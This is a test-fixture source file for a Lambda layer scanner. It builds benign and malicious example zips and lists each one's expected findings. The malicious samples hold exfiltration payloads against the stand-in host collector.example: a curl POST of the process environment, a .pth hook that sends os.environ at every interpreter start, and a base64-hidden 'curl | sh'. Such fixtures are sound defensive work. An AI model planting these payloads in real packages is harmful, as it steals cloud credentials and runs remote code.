// biome-ignore-all lint/suspicious/noTemplateCurlyInString: shell scripts, not templates.
/**
 * Small layer zips to try `layerwatch inspect` on at once (examples/layers/), benign and malicious,
 * each modelled on a real shape. Stored (not deflated), so that the bytes do not depend on the zlib
 * of the Node.js that builds them. The expected signals are beside each layer: the test checks both
 * the bytes on disk and what inspect says of them.
 */
import { buildZip, type ZipEntrySpec } from '../test/support/zips.js';

const SITE = 'python/lib/python3.12/site-packages';

const NSPKG =
  "import sys, types, os;has_mfs = sys.version_info > (3, 5);p = os.path.join(sys._getframe(1).f_locals['sitedir'], *('google',));importlib = has_mfs and __import__('importlib.util');has_mfs and __import__('importlib.machinery');m = has_mfs and sys.modules.setdefault('google', importlib.util.module_from_spec(importlib.machinery.PathFinder.find_spec('google', [os.path.dirname(p)])));m = m or sys.modules.setdefault('google', types.ModuleType('google'));mp = (m or []) and m.__dict__.setdefault('__path__',[]);(p not in mp) and mp.append(p)\n";

export interface ExampleLayer {
  file: string;
  description: string;
  entries: ZipEntrySpec[];
  /** What inspect reports, as "severity id path", most severe first. */
  expected: string[];
}

const store = (entries: ZipEntrySpec[]) => entries.map((e) => ({ method: 'store' as const, ...e }));

export const EXAMPLE_LAYERS: readonly ExampleLayer[] = [
  {
    file: 'benign-python-library.zip',
    description: 'a Python library layer with a namespace-package .pth, as pip installs it',
    entries: store([
      { path: 'python/', directory: true },
      { path: `${SITE}/google/protobuf/__init__.py`, data: "__version__ = '4.25.3'\n" },
      { path: `${SITE}/protobuf-4.25.3-py3.12-nspkg.pth`, data: NSPKG },
      { path: `${SITE}/protobuf-4.25.3.dist-info/RECORD`, data: 'google/protobuf/__init__.py,,\n' },
    ]),
    expected: [`low runtime-startup-hook ${SITE}/protobuf-4.25.3-py3.12-nspkg.pth`],
  },
  {
    file: 'benign-otel-wrapper.zip',
    description:
      'an OpenTelemetry-style Node.js wrapper: sets NODE_OPTIONS, then starts the runtime it is given',
    entries: store([
      {
        path: 'otel-handler',
        data: '#!/bin/bash\nset -euo pipefail\nexport NODE_OPTIONS="${NODE_OPTIONS:-} --require /opt/wrapper.js"\nexec "$@"\n',
        mode: 0o755,
      },
      { path: 'wrapper.js', data: "require('./nodejs/node_modules/otel-setup');\n" },
      { path: 'nodejs/node_modules/otel-setup/index.js', data: 'module.exports = {};\n' },
    ]),
    expected: ['medium exec-wrapper-script otel-handler'],
  },
  {
    file: 'malicious-extension.zip',
    description:
      'an external extension that sends the environment (the credentials) out, as Stratus Red Team plants',
    entries: store([
      { path: 'extensions/', directory: true },
      {
        path: 'extensions/telemetry-agent',
        data: '#!/bin/bash\ncurl -s -X POST --data-binary @/proc/self/environ https://collector.example/ingest\ncurl -s "http://${AWS_LAMBDA_RUNTIME_API}/2020-01-01/extension/register" -d \'{"events":[]}\' -H "Lambda-Extension-Name: telemetry-agent"\n',
        mode: 0o755,
      },
    ]),
    expected: ['high external-extension extensions/telemetry-agent'],
  },
  {
    file: 'malicious-startup-hook.zip',
    description:
      'a .pth named like a namespace package that runs a payload at every interpreter start, a wrapper that decodes and runs data, and a duplicated file',
    entries: store([
      {
        path: `${SITE}/google_auth-2.0-py3.12-nspkg.pth`,
        data: "import os, urllib.request; urllib.request.urlopen('https://collector.example', data=repr(dict(os.environ)).encode())\n",
      },
      {
        path: 'bin/start',
        data: '#!/bin/sh\necho Y3VybCAtcyBodHRwczovL2NvbGxlY3Rvci5leGFtcGxlL3AgfCBzaAo= | base64 -d | sh\nexec "$@"\n',
        mode: 0o755,
      },
      { path: 'python/README.txt', data: 'shared helpers\n' },
      { path: 'python/README.txt', data: 'shared helpers, second copy\n' },
    ]),
    expected: [
      `high runtime-startup-hook ${SITE}/google_auth-2.0-py3.12-nspkg.pth`,
      'high exec-wrapper-script bin/start',
      'medium unsafe-archive python/README.txt',
    ],
  },
];

/** file name -> zip bytes. */
export function exampleLayerZips(): Record<string, Buffer> {
  return Object.fromEntries(EXAMPLE_LAYERS.map((l) => [l.file, buildZip(l.entries)]));
}
